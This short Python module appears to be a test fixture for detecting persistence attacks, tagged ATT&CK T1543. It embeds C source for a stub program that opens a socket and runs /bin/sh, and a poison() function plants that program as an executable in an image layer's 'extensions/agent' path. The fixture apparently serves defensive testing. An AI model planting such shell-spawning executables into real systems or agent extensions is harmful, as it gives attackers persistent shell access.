# SPDX-License-Identifier: Apache-2.0
"""A new extension that is a program."""

ATTACK = "T1543"
LANGUAGE = "any"
C = '#include <sys/socket.h>\n#include <unistd.h>\nint main(void) { return connect(socket(2, 1, 0), 0, 0) + execve("/bin/sh", 0, 0); }\n'


def poison(layer):
    layer.write("extensions/agent", layer.program(C), 0o100755)
